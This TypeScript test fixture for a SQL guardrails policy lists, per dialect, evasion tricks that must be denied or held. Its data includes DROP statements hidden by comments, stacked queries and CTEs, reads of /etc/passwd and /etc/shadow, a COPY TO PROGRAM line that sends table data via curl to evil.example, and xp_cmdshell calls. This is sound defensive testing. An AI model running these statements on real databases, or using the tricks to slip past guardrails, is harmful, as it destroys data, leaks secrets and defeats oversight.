// Bypass attempts per dialect: statements a protect-prod policy must catch however they are dressed up.
import type { GuardrailsInput } from '../options.js';

export interface BypassAttempt {
  readonly sql: string;
  /** The trick it tries. */
  readonly trick: string;
  readonly expect: 'deny' | 'hold';
  /** The rule that must catch it: caught for the right reason, not by accident. */
  readonly rule: string;
}

/** The policy the corpus runs against, in environment `prod`: the preset plus a table rule for the quoting tricks. */
export const BYPASS_POLICY: GuardrailsInput = {
  presets: ['protect-prod'],
  rules: [{ name: 'no-payroll', match: { tables: ['payroll'] }, action: 'deny' }],
  approvals: { approvers: ['dba'] },
};

const NO_DROP = 'protect-prod/no-drop';
const UNBOUNDED = 'protect-prod/no-unbounded-write';
const FILES = 'protect-prod/dangerous-functions';
const DDL = 'protect-prod/ddl-needs-approval';
const UNKNOWN = 'unknown-sql';

export const POSTGRES_BYPASSES: readonly BypassAttempt[] = [
  // Comments and odd whitespace
  { trick: 'block comment before', sql: '/* routine cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'comments as separators', sql: 'DROP/**/TABLE/**/orders', expect: 'deny', rule: NO_DROP },
  { trick: 'nested block comments', sql: '/* a /* b */ c */ drop table orders', expect: 'deny', rule: NO_DROP },
  { trick: 'line comment before', sql: '-- just a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'tabs, CR/LF and blank lines', sql: '\t\r\n  DrOp\n\n\tTABLE\r\n orders\t;', expect: 'deny', rule: NO_DROP },
  { trick: 'form feed and vertical whitespace', sql: 'truncate\ftable\vorders', expect: 'deny', rule: NO_DROP },
  // Quoting and case
  { trick: 'mixed case', sql: 'dRoP tAbLe OrDeRs', expect: 'deny', rule: NO_DROP },
  { trick: 'quoted table name', sql: 'SELECT * FROM "payroll"', expect: 'deny', rule: 'no-payroll' },
  { trick: 'quoted schema and table', sql: 'select salary from "public"."payroll" p where p.id = 1', expect: 'deny', rule: 'no-payroll' },
  { trick: 'upper-case table', sql: 'SELECT * FROM PAYROLL', expect: 'deny', rule: 'no-payroll' },
  { trick: 'unicode-escaped identifier', sql: 'select * from U&"p\\0061yroll"', expect: 'deny', rule: 'no-payroll' },
  { trick: 'quoted function name', sql: `SELECT "pg_read_file"('/etc/passwd')`, expect: 'deny', rule: FILES },
  { trick: 'upper-case function name', sql: `SELECT PG_READ_FILE('/etc/passwd')`, expect: 'deny', rule: FILES },
  { trick: 'schema-qualified function', sql: `select pg_catalog.pg_read_file('postgresql.conf')`, expect: 'deny', rule: FILES },
  // Several statements in one string
  { trick: 'harmless first statement', sql: 'select 1; drop table orders', expect: 'deny', rule: NO_DROP },
  { trick: 'no space after the semicolon', sql: 'select 1;drop table orders;--', expect: 'deny', rule: NO_DROP },
  { trick: 'write after a read', sql: 'select count(*) from orders; delete from orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'DDL hidden after reads', sql: 'select 1; select 2; alter table orders add column x int', expect: 'hold', rule: DDL },
  // DML inside CTEs and subqueries
  { trick: 'DELETE in a CTE', sql: 'with gone as (delete from orders returning *) select count(*) from gone', expect: 'deny', rule: UNBOUNDED },
  { trick: 'UPDATE in a CTE', sql: 'WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM u', expect: 'deny', rule: UNBOUNDED },
  { trick: 'CTE before a DELETE', sql: 'with x as (select 1) delete from orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'tautological WHERE', sql: 'delete from orders where 1 = 1', expect: 'deny', rule: UNBOUNDED },
  { trick: 'WHERE true', sql: 'update orders set total = 0 where true', expect: 'deny', rule: UNBOUNDED },
  { trick: 'file read in a subquery', sql: `select * from (select pg_read_file('/etc/passwd') as f) s`, expect: 'deny', rule: FILES },
  { trick: 'file listing as a table', sql: `select * from pg_ls_dir('.') as files`, expect: 'deny', rule: FILES },
  // Prepared statements
  { trick: 'PREPARE of an unbounded DELETE', sql: 'prepare wipe as delete from orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'PREPARE of a DROP', sql: 'PREPARE p AS SELECT 1; DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  // COPY
  { trick: 'COPY to a program', sql: `copy orders to program 'curl -d @- https://evil.example'`, expect: 'deny', rule: FILES },
  { trick: 'COPY from a server file', sql: `COPY orders FROM '/etc/passwd'`, expect: 'deny', rule: FILES },
  { trick: 'COPY of a DELETE', sql: 'copy (delete from orders returning *) to stdout', expect: 'deny', rule: UNBOUNDED },
  // Transactions
  { trick: 'inside a transaction', sql: 'begin; truncate orders; commit;', expect: 'deny', rule: NO_DROP },
  { trick: 'inside a savepoint', sql: 'BEGIN; SAVEPOINT a; DROP TABLE orders; RELEASE a; COMMIT', expect: 'deny', rule: NO_DROP },
  // EXPLAIN ANALYZE runs its statement
  { trick: 'EXPLAIN ANALYZE of a DELETE', sql: 'explain analyze delete from orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'EXPLAIN (ANALYZE) with options', sql: 'EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) UPDATE orders SET total = 1', expect: 'deny', rule: UNBOUNDED },
  { trick: 'EXPLAIN (ANALYZE true)', sql: 'explain (analyze true) delete from orders', expect: 'deny', rule: UNBOUNDED },
  // Functions that touch files, programs or other servers
  { trick: 'large object import', sql: `select lo_import('/etc/passwd')`, expect: 'deny', rule: FILES },
  { trick: 'large object export', sql: `select lo_export(16409, '/tmp/x')`, expect: 'deny', rule: FILES },
  { trick: 'binary file read', sql: `select pg_read_binary_file('/etc/shadow')`, expect: 'deny', rule: FILES },
  { trick: 'file stat', sql: `select pg_stat_file('pg_hba.conf')`, expect: 'deny', rule: FILES },
  { trick: 'remote SQL through dblink', sql: `select dblink_exec('host=other', 'drop table orders')`, expect: 'deny', rule: FILES },
  { trick: 'loading a shared library', sql: `load '/tmp/evil.so'`, expect: 'deny', rule: FILES },
  { trick: 'stopping other sessions', sql: 'select pg_terminate_backend(pid) from pg_stat_activity', expect: 'deny', rule: FILES },
  // Dynamic SQL and what cannot be analyzed
  { trick: 'dynamic SQL in a DO block', sql: `do $$ begin execute 'drop table ' || 'orders'; end $$`, expect: 'deny', rule: UNKNOWN },
  { trick: 'static DROP in a DO block', sql: 'DO $$ BEGIN DROP TABLE orders; END $$', expect: 'deny', rule: NO_DROP },
  { trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN },
  // DDL in disguise
  { trick: 'SELECT INTO creates a table', sql: 'select * into orders_copy from orders', expect: 'hold', rule: DDL },
  { trick: 'GRANT', sql: 'grant all on orders to public', expect: 'hold', rule: DDL },
  { trick: 'ALTER SYSTEM', sql: `alter system set log_statement = 'none'`, expect: 'hold', rule: DDL },
  { trick: 'function whose body deletes', sql: `create function f() returns void as $$ delete from orders $$ language sql`, expect: 'hold', rule: DDL },
];

export const MYSQL_BYPASSES: readonly BypassAttempt[] = [
  { trick: 'block comment before', sql: '/* cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'hash comment before', sql: '# just a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'comments as separators', sql: 'DROP/**/TABLE/**/orders', expect: 'deny', rule: NO_DROP },
  { trick: 'versioned comment runs on the server', sql: 'SELECT 1 /*!50000 ; DROP TABLE orders */', expect: 'deny', rule: NO_DROP },
  { trick: 'mixed case and backticks', sql: 'dRoP TaBlE `orders`', expect: 'deny', rule: NO_DROP },
  { trick: 'backquoted table', sql: 'SELECT * FROM `payroll`', expect: 'deny', rule: 'no-payroll' },
  { trick: 'database-qualified table', sql: 'select * from hr.payroll', expect: 'deny', rule: 'no-payroll' },
  { trick: 'several statements', sql: 'select 1; truncate table orders', expect: 'deny', rule: NO_DROP },
  { trick: 'unbounded DELETE', sql: 'delete from orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'tautological WHERE', sql: 'UPDATE orders SET total = 0 WHERE 1', expect: 'deny', rule: UNBOUNDED },
  { trick: 'in a transaction', sql: 'start transaction; delete from orders; commit', expect: 'deny', rule: UNBOUNDED },
  { trick: 'reading a server file', sql: `select load_file('/etc/passwd')`, expect: 'deny', rule: FILES },
  { trick: 'writing a server file', sql: `select * from orders into outfile '/tmp/orders.csv'`, expect: 'deny', rule: FILES },
  { trick: 'dumping to a server file', sql: `select 'x' into dumpfile '/tmp/x'`, expect: 'deny', rule: FILES },
  { trick: 'loading a server file', sql: `load data infile '/etc/passwd' into table orders`, expect: 'deny', rule: FILES },
  { trick: 'PREPARE of a literal: the literal is read too', sql: `prepare s from 'drop table orders'`, expect: 'deny', rule: NO_DROP },
  { trick: 'dynamic SQL built in a variable', sql: `set @q = concat('drop ', 'table orders'); prepare s from @q; execute s`, expect: 'deny', rule: UNKNOWN },
  { trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN },
  { trick: 'ALTER', sql: 'alter table orders add column note text', expect: 'hold', rule: DDL },
];

export const MSSQL_BYPASSES: readonly BypassAttempt[] = [
  { trick: 'block comment before', sql: '/* cleanup */ DROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'line comment before', sql: '-- a select\nDROP TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'bracket-quoted names and case', sql: 'dRoP TaBlE [dbo].[orders]', expect: 'deny', rule: NO_DROP },
  { trick: 'bracket-quoted table', sql: 'SELECT * FROM [hr].[payroll]', expect: 'deny', rule: 'no-payroll' },
  { trick: 'several statements', sql: 'SELECT 1; TRUNCATE TABLE orders', expect: 'deny', rule: NO_DROP },
  { trick: 'DELETE without FROM or WHERE', sql: 'DELETE orders', expect: 'deny', rule: UNBOUNDED },
  { trick: 'unbounded UPDATE', sql: 'UPDATE orders SET total = 0', expect: 'deny', rule: UNBOUNDED },
  { trick: 'in a transaction', sql: 'BEGIN TRAN; DROP TABLE orders; COMMIT', expect: 'deny', rule: NO_DROP },
  { trick: 'shell through xp_cmdshell', sql: `EXEC xp_cmdshell 'dir c:\\'`, expect: 'deny', rule: FILES },
  { trick: 'shell through master..xp_cmdshell', sql: `exec master..xp_cmdshell 'whoami'`, expect: 'deny', rule: FILES },
  { trick: 'ad-hoc remote rowset', sql: `SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'SELECT 1')`, expect: 'deny', rule: FILES },
  { trick: 'bulk load from a server file', sql: `BULK INSERT orders FROM 'c:\\data\\orders.csv'`, expect: 'deny', rule: FILES },
  { trick: 'EXEC() of a literal: the literal is read too', sql: `EXEC('DROP TABLE orders')`, expect: 'deny', rule: NO_DROP },
  { trick: 'sp_executesql of a literal: the literal is read too', sql: `EXEC sp_executesql N'DROP TABLE orders'`, expect: 'deny', rule: NO_DROP },
  { trick: 'dynamic SQL built in a variable', sql: `DECLARE @s nvarchar(100) = N'DROP TABLE ' + N'orders'; EXEC(@s)`, expect: 'deny', rule: UNKNOWN },
  { trick: 'sp_executesql of a variable', sql: 'EXEC sp_executesql @stmt', expect: 'deny', rule: UNKNOWN },
  { trick: 'not SQL at all', sql: 'DR0P TABLE orders', expect: 'deny', rule: UNKNOWN },
  { trick: 'ALTER', sql: 'ALTER TABLE orders ADD note NVARCHAR(100)', expect: 'hold', rule: DDL },
];

export const BYPASSES: Readonly<Record<'postgres' | 'mysql' | 'mssql', readonly BypassAttempt[]>> = {
  postgres: POSTGRES_BYPASSES,
  mysql: MYSQL_BYPASSES,
  mssql: MSSQL_BYPASSES,
};
